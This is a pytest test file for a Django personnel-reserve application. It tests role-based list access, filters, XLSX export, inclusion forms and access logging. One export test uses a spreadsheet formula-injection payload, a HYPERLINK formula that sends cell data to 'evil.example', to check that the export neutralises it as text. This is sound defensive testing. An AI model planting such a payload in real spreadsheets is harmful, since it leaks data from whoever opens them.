from datetime import date

import pytest
from django.db import IntegrityError
from django.urls import reverse
from pytest_django.asserts import assertContains

from core.tests.utils import xlsx_rows, xlsx_text_cells
from mentorships.tests.factories import MentorshipFactory
from people.models import PersonViewLog
from people.tests.factories import PersonFactory
from plans.tests.factories import IndividualPlanFactory
from reserve import services
from reserve.models import ReserveEntry
from reserve.tests.factories import ReserveEntryFactory, TargetPositionFactory

pytestmark = pytest.mark.django_db

LIST = reverse("reserve:list")


def _entry(organization, **kwargs) -> ReserveEntry:
    return ReserveEntryFactory.create(person__organization=organization, **kwargs)


def _names(response) -> list[str]:
    return [e.person.last_name for e in response.context["page"].object_list]


# ---------------------------------------------------------------- the list


def test_list_redirects_anonymous_to_login(client):
    response = client.get(LIST)
    assert response.status_code == 302
    assert response["Location"].startswith(reverse("accounts:login"))


def test_coordinator_sees_the_municipality_reserve(
    client, coordinator, school, other_school, far_school
):
    _entry(school, person__last_name="Алексеев")
    _entry(other_school, person__last_name="Борисов")
    _entry(far_school, person__last_name="Чужой")
    client.force_login(coordinator)
    response = client.get(LIST)
    assert response.status_code == 200
    assert _names(response) == ["Алексеев", "Борисов"]
    content = response.content.decode()
    assert reverse("reserve:create") in content
    assert reverse("imports:start", args=["reserve"]) in content


def test_head_sees_only_own_organisation_and_cannot_include(
    client, head, school, other_school
):
    _entry(school, person__last_name="Алексеев")
    _entry(other_school, person__last_name="Борисов")
    client.force_login(head)
    response = client.get(LIST)
    assert _names(response) == ["Алексеев"]
    assert reverse("reserve:create") not in response.content.decode()
    assert reverse("imports:start", args=["reserve"]) not in response.content.decode()


def test_stranger_sees_nothing_of_another_municipality(client, stranger, school):
    _entry(school)
    client.force_login(stranger)
    assert _names(client.get(LIST)) == []


def test_list_filters(client, coordinator, school, other_school):
    director = TargetPositionFactory(
        municipality=school.municipality, name="Директор школы"
    )
    deputy = TargetPositionFactory(
        municipality=school.municipality, name="Заместитель директора"
    )
    with_mentor = MentorshipFactory(
        reserve_entry__person__organization=school,
        reserve_entry__person__last_name="Алексеев",
        reserve_entry__target_position=director,
    ).reserve_entry
    _entry(school, person__last_name="Борисов", target_position=deputy)
    _entry(
        other_school,
        person__last_name="Васильев",
        status=ReserveEntry.Status.EXCLUDED,
        excluded_on=date(2026, 10, 1),
        exclusion_reason="По собственному желанию",
    )
    client.force_login(coordinator)

    def names(**params):
        return _names(client.get(LIST, params))

    assert names(has_mentor="yes") == ["Алексеев"]
    assert names(has_mentor="no") == ["Борисов", "Васильев"]
    assert names(status="excluded") == ["Васильев"]
    assert names(organization=other_school.pk) == ["Васильев"]
    assert names(target_position=deputy.pk) == ["Борисов"]
    assert names(q="алекс") == ["Алексеев"]
    assert with_mentor.person.last_name == "Алексеев"


def test_list_htmx_returns_only_the_rows(client, coordinator, school):
    _entry(school)
    client.force_login(coordinator)
    response = client.get(LIST, headers={"HX-Request": "true"})
    content = response.content.decode()
    assert "<html" not in content
    assert "<table" in content
    assert "HX-Request" in response["Vary"]


@pytest.mark.parametrize("n", [3, 12])
def test_list_query_count_is_constant(
    client, coordinator, school, n, django_assert_max_num_queries
):
    for _ in range(n):
        MentorshipFactory(reserve_entry__person__organization=school)
    client.force_login(coordinator)
    # session, user, roles, person, count, the page's keys, the page annotated,
    # organisations, target positions, the access log's INSERT
    with django_assert_max_num_queries(10):
        response = client.get(LIST)
    assert len(response.context["page"].object_list) == n


def test_export_follows_the_filters(client, coordinator, school):
    MentorshipFactory(
        reserve_entry__person__organization=school,
        reserve_entry__person__last_name="Алексеев",
    )
    _entry(school, person__last_name="Борисов")
    client.force_login(coordinator)
    response = client.get(reverse("reserve:export"), {"has_mentor": "yes"})
    rows = xlsx_rows(response)
    assert len(rows) == 2
    assert rows[1][0] == "Алексеев"
    assert rows[1][5] == "Директор школы"
    assert rows[1][-2:] == ["да", "нет"]  # has a mentor, plan approved


def test_export_logs_one_access_per_exported_reservist(client, coordinator, school):
    exported = _entry(school, person__last_name="Алексеев")
    client.force_login(coordinator)

    client.get(reverse("reserve:export"))

    log = PersonViewLog.objects.get()
    assert (log.person, log.user, log.channel) == (
        exported.person,
        coordinator,
        PersonViewLog.Channel.EXPORT,
    )


# ---------------------------------------------------------------- inclusion


def _inclusion(person, target, **changes):
    data = {
        "person": person.pk,
        "target_position": target.pk,
        "basis_number": "15-р",
        "basis_date": "2026-09-01",
        "included_on": "2026-09-02",
        "term_until": "",
    }
    return {**data, **changes}


def test_inclusion_conflict_shows_the_form_again(
    client, coordinator, school, monkeypatch
):
    person = PersonFactory(organization=school)
    target = TargetPositionFactory(municipality=school.municipality)

    def fail(**kwargs):  # another request included the person first
        raise IntegrityError("UNIQUE constraint failed")

    monkeypatch.setattr(services, "include_in_reserve", fail)
    client.force_login(coordinator)

    response = client.post(reverse("reserve:create"), _inclusion(person, target))

    assert response.status_code == 409
    assertContains(
        response,
        "Эти данные только что изменил другой пользователь. Проверьте и повторите.",
        status_code=409,
    )
    assert not ReserveEntry.objects.filter(person=person).exists()


def test_inclusion_refuses_a_date_beyond_2100(client, coordinator, school):
    person = PersonFactory(organization=school)
    target = TargetPositionFactory(municipality=school.municipality)
    client.force_login(coordinator)

    response = client.post(
        reverse("reserve:create"), _inclusion(person, target, term_until="9999-12-31")
    )

    assert response.context["form"].errors["term_until"] == [
        "Введите дату в промежутке с 01.01.2000 по 31.12.2100."
    ]
    assert not ReserveEntry.objects.filter(person=person).exists()


def test_coordinator_includes_a_person_with_the_default_term(
    client, coordinator, school
):
    school.municipality.reserve_term_years = 2
    school.municipality.save()
    person = PersonFactory(organization=school)
    target = TargetPositionFactory(municipality=school.municipality)
    client.force_login(coordinator)
    response = client.post(reverse("reserve:create"), _inclusion(person, target))
    entry = ReserveEntry.objects.get(person=person)
    assert response.status_code == 302
    assert response["Location"] == entry.get_absolute_url()
    assert entry.term_until == date(2028, 9, 2)
    assert entry.status == ReserveEntry.Status.ACTIVE


def test_inclusion_form_is_prefilled_with_the_person(client, coordinator, school):
    person = PersonFactory(organization=school)
    client.force_login(coordinator)
    response = client.get(reverse("reserve:create"), {"person": person.pk})
    assert response.status_code == 200
    assert response.context["form"]["person"].value() == str(person.pk)


def test_inclusion_shows_form_errors(client, coordinator, school):
    client.force_login(coordinator)
    response = client.post(reverse("reserve:create"), {"basis_number": ""})
    assert response.status_code == 422
    assert "Обязательное поле." in response.content.decode()
    assert not ReserveEntry.objects.exists()


def test_inclusion_shows_the_service_rule(client, coordinator, school):
    person = PersonFactory(organization=school)
    target = TargetPositionFactory(municipality=school.municipality)
    client.force_login(coordinator)
    response = client.post(
        reverse("reserve:create"),
        _inclusion(person, target, basis_date="2026-09-05"),
    )
    assert response.status_code == 422
    assert response.context["form"].errors["basis_date"]
    assert not ReserveEntry.objects.exists()


def test_a_person_in_the_reserve_is_not_offered_again(client, coordinator, school):
    entry = _entry(school)
    client.force_login(coordinator)
    response = client.post(
        reverse("reserve:create"), _inclusion(entry.person, entry.target_position)
    )
    assert "Выберите сотрудника из найденных" in response.content.decode()
    assert ReserveEntry.objects.count() == 1


def test_head_may_not_include(client, head):
    client.force_login(head)
    assert client.get(reverse("reserve:create")).status_code == 403


def test_coordinator_corrects_an_entry(client, coordinator, school):
    entry = _entry(school)
    client.force_login(coordinator)
    url = reverse("reserve:edit", args=[entry.pk])
    form = client.get(url).context["form"]
    data = {name: form[name].value() for name in form.fields}
    data["target_position"] = entry.target_position.pk
    response = client.post(url, {**data, "basis_number": "99-р"})
    assert response.status_code == 302
    entry.refresh_from_db()
    assert entry.basis_number == "99-р"


def test_head_may_not_correct_an_entry(client, head, school):
    entry = _entry(school)
    client.force_login(head)
    assert client.get(reverse("reserve:edit", args=[entry.pk])).status_code == 403


def test_reserve_list_filters_by_approved_plan(client, coordinator, school):
    from plans.models import IndividualPlan
    from plans.tests.factories import IndividualPlanFactory

    plan = IndividualPlanFactory(
        organization=school,
        reservist=PersonFactory(organization=school, last_name="Спланом"),
        status=IndividualPlan.Status.APPROVED,
    )
    assert plan.reserve_entry.person.last_name == "Спланом"
    ReserveEntryFactory(person__organization=school, person__last_name="Безплана")
    client.force_login(coordinator)

    content = client.get(
        reverse("reserve:list"), {"plan_approved": "yes"}
    ).content.decode()
    assert "Спланом" in content and "Безплана" not in content
    content = client.get(
        reverse("reserve:list"), {"plan_approved": "no"}
    ).content.decode()
    assert "Безплана" in content and "Спланом" not in content
    assert "План утверждён" in client.get(reverse("reserve:list")).content.decode()


@pytest.mark.parametrize("n", [2, 30])
def test_export_query_count_does_not_grow_with_rows(
    client, coordinator, school, django_assert_num_queries, n
):
    for _ in range(n):
        _entry(school)
    client.force_login(coordinator)

    # session, user, roles, person, rows (one iterator chunk), access log (one
    # INSERT for all the rows)
    with django_assert_num_queries(6):
        response = client.get(reverse("reserve:export"))

    assert len(xlsx_rows(response)) == n + 1
    assert PersonViewLog.objects.count() == n


def test_export_writes_a_formula_like_name_as_text(client, coordinator, school):
    formula = '=HYPERLINK("http://evil.example/?d="&B2,"ok")'
    _entry(school, person__last_name=formula, person__first_name="-\x0b1")
    client.force_login(coordinator)

    response = client.get(reverse("reserve:export"))

    for text in (formula, "-1"):
        (cell,) = xlsx_text_cells(response, text)
        assert (cell.data_type, cell.quotePrefix) == ("s", True)


def test_list_logs_the_reservists_on_its_page(client, coordinator, school, far_school):
    shown = [_entry(school), _entry(school)]
    _entry(far_school)
    client.force_login(coordinator)

    assert client.get(LIST).status_code == 200

    logs = PersonViewLog.objects.all()
    assert sorted(log.person_id for log in logs) == sorted(e.person_id for e in shown)
    assert {(log.user, log.channel, log.source) for log in logs} == {
        (coordinator, PersonViewLog.Channel.LIST, LIST)
    }


def test_inclusion_form_preselects_the_person_from_the_card(
    client, coordinator, school
):
    person = PersonFactory(organization=school, last_name="Петров")
    PersonFactory(organization=school, last_name="Сидоров")
    client.force_login(coordinator)

    response = client.get(reverse("reserve:create") + f"?person={person.pk}")

    # The type-ahead field holds the person's id and shows the name found.
    assertContains(
        response, f'<input type="hidden" name="person" value="{person.pk}"', html=False
    )
    assertContains(response, f'value="{person} ({school.short_name})"', html=False)


PLAN_STATES = [
    ({"status": "draft"}, "черновик"),
    ({"status": "submitted"}, "на утверждении"),
    ({"status": "draft", "remarks": "Добавьте стажировку."}, "возвращён с замечаниями"),
    ({"status": "approved"}, "утверждён"),
    (
        {"status": "approved", "has_unapproved_changes": True},
        "утверждён, изменения ждут утверждения",
    ),
    ({"status": "completed"}, "выполнен"),
]


@pytest.mark.parametrize(("fields", "label"), PLAN_STATES)
def test_list_plan_column_shows_the_current_plans_state(
    client, coordinator, school, fields, label
):
    plan = IndividualPlanFactory(organization=school, **fields)
    client.force_login(coordinator)

    response = client.get(LIST)

    row = _row(response.content.decode(), plan.reserve_entry.person.full_name)
    assert f">{label}</span>" in row


def test_list_plan_column_shows_a_dash_without_a_plan(client, coordinator, school):
    entry = ReserveEntryFactory(person__organization=school)
    client.force_login(coordinator)

    row = _row(client.get(LIST).content.decode(), entry.person.full_name)

    assert row.rstrip().endswith('data-label="План">—</td>')


def _row(content: str, name: str) -> str:
    start = content.index(name)
    return content[start : content.index("</tr>", start)]


@pytest.mark.parametrize("n", [3, 12])
def test_list_query_count_is_constant_with_plans(
    client, coordinator, school, n, django_assert_max_num_queries
):
    for i in range(n):
        IndividualPlanFactory(
            organization=school, status=PLAN_STATES[i % 6][0]["status"]
        )
    client.force_login(coordinator)
    # as test_list_query_count_is_constant: the plan's state is in the page's query
    with django_assert_max_num_queries(10):
        response = client.get(LIST)
    assert len(response.context["page"].object_list) == n
